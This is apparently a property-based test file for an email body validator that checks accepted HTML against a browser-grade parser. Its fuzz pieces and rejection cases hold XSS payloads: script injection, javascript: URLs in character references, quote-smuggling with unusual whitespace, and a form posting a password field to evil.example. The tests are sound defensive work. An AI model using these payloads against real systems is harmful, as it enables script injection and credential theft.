// Checks the validation of email bodies against a parser that follows the HTML standard to the letter, as browsers do: an accepted body
// must contain only what is allowed in an email.
import { emailProblems } from '#contract/emails/index.ts';
import { emailBodyProblems } from '#domain/emails/index.ts';
import fc from 'fast-check';
import { defaultTreeAdapter, parseFragment } from 'parse5';
import type { DefaultTreeAdapterTypes } from 'parse5';
import { expect, test } from 'vitest';

const allowedElements = new Set(
  'p br a b strong i em u s h1 h2 h3 ul ol li blockquote hr img div span table thead tbody tfoot tr th td small sup sub'.split(' '),
);
const allowedAttributes = new Set(
  'href src alt title width height align valign bgcolor color border cellpadding cellspacing colspan rowspan style class id name target rel lang dir role start type aria-label aria-hidden'.split(
    ' ',
  ),
);
const ALLOWED_URL = /^(?:https:\/\/|mailto:|tel:|[/?#]|$)/i;

const elementsIn = ({ childNodes }: DefaultTreeAdapterTypes.ParentNode): DefaultTreeAdapterTypes.Element[] =>
  childNodes.filter((node) => defaultTreeAdapter.isElementNode(node)).flatMap((element) => [element, ...elementsIn(element)]);

/** The forbidden elements, attributes and URLs that a browser finds in a body with empty variables, such as `<script>` or `<p onclick>`. */
function forbiddenIn(body: string): string[] {
  const found: string[] = [];
  for (const { tagName, attrs } of elementsIn(parseFragment(body.replaceAll('{{order.url}}', '')))) {
    if (!allowedElements.has(tagName)) found.push(`<${tagName}>`);
    for (const { name, value } of attrs) {
      if (!allowedAttributes.has(name)) found.push(`<${tagName} ${name}>`);
      const isUrl = name === 'href' || name === 'src';
      // eslint-disable-next-line no-control-regex -- browsers ignore these characters in a URL
      if (isUrl && !ALLOWED_URL.test(value.replaceAll(/^[\0-\x20]+|[\t\n\r]/g, ''))) found.push(`<${tagName} ${name}=${value}>`);
    }
  }
  return found;
}

const PIECES = [
  '<p>',
  '</p>',
  '<p ',
  '<a href=',
  '<a href="',
  '<img src="https://a.example/1.png"',
  '<img alt=',
  '<td width=3',
  '</p ',
  '< p ',
  '<',
  '>',
  '/>',
  '/',
  '"',
  "'",
  '=',
  ' ',
  '\n',
  '\t',
  '\f',
  '\u00a0',
  '\u2028',
  '\ufeff',
  '\v',
  '`',
  '&',
  '&#106;',
  '&quot;',
  '&gt;',
  '\\',
  'x',
  'x=',
  'title="',
  "alt='",
  '<script>',
  '</script>',
  '<form>',
  '<svg>',
  '<!--',
  '-->',
  '--!>',
  '<!',
  '<?',
  '</',
  '<![CDATA[',
  ']]>',
  'onclick=',
  'onload="x"',
  'style="color:red"',
  'https://a.example',
  'javascript:alert(1)',
  'mailto:a@b.example',
  '//evil.example',
  '{{order.url}}',
  '?a=b',
  '#',
  'words',
];
const bodies = fc.array(fc.constantFrom(...PIECES), { maxLength: 12 }).map((all) => all.join(''));

test('a browser finds only allowed elements, attributes and URLs in an accepted body', () => {
  let accepted = 0;
  fc.assert(
    fc.property(bodies, (body) => {
      if (emailProblems('orderPlaced', { subject: 'x', body }).length > 0) return;
      accepted += 1;
      expect(forbiddenIn(body)).toEqual([]);
    }),
    { numRuns: 20_000 },
  );
  expect(accepted).toBeGreaterThan(500);
});

test.each([
  [
    'a no-break space before a quote',
    '<p x=\u00a0"><script>alert(1)</script><form action=https://evil.example><input name=pw></form><p y=">',
  ],
  ['a line separator before a quote', '<p title=\u2028"><script>alert(1)</script><p title=">'],
  ['a byte order mark before a quote', '<p title=\ufeff"><script>alert(1)</script><p title=">'],
  ['a name that begins after a space', '< p title="><script>alert(1)</script>">'],
  ['an attribute after a slash', '<p x/onclick="alert(1)">x</p>'],
  ['a URL after a variable, in character references', '<a href="{{order.url}}&#106;avascript:alert(1)">x</a>'],
  ['a URL in character references', '<a href="&#106;avascript:alert(1)">x</a>'],
])('%s is rejected', (_, body) => {
  expect(forbiddenIn(body)).not.toEqual([]);
  expect(emailBodyProblems(body)).not.toEqual([]);
});

test.each(['<a href="javascript:alert(1)//', "<p title='", '<img src=https://a.example/1.png', '<p', '</p', '<a href='])(
  '%j is rejected as unfinished, since it would swallow what follows the body',
  (body) => {
    expect(emailBodyProblems(body)).toMatchObject([{ kind: 'unfinished', line: 1 }]);
  },
);
